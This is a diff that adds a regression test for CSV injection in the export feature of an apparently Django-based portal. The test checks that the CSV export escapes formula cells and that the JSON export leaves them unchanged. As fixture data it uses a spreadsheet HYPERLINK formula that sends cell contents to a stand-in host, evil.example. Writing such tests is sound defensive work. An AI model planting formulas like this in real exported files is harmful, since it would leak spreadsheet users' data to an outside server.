@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 from datetime import date
 
@@ -201,6 +203,19 @@ class TestExport:
         lines = b"".join(response.streaming_content).decode().splitlines()
         assert lines[0].startswith("register_number,instansi,unit,provision")
         assert len(lines) == 4
+
+    def test_csv_cells_a_spreadsheet_would_run_are_written_as_text(self, client, make_entry, units):
+        """Found by the 2026-12-07 attack: a unit named with a formula reached the public CSV,
+        and a spreadsheet opening it would run it (CSV injection)."""
+        unit = units["health"]
+        unit.name = '=HYPERLINK("http://evil.example/?leak="&A1,"Dinas")'
+        unit.save()
+        make_entry(unit=unit)
+        response = get(client, "portal:export", format="csv")
+        rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
+        assert rows[0]["unit"] == "'" + unit.name
+        data = json.loads(b"".join(get(client, "portal:export").streaming_content))
+        assert data["records"][0]["unit"] == unit.name  # JSON keeps the text as it is
 
     def test_export_applies_filters(self, client, make_entry):
         make_entry(register_number="A/1", level="berat")
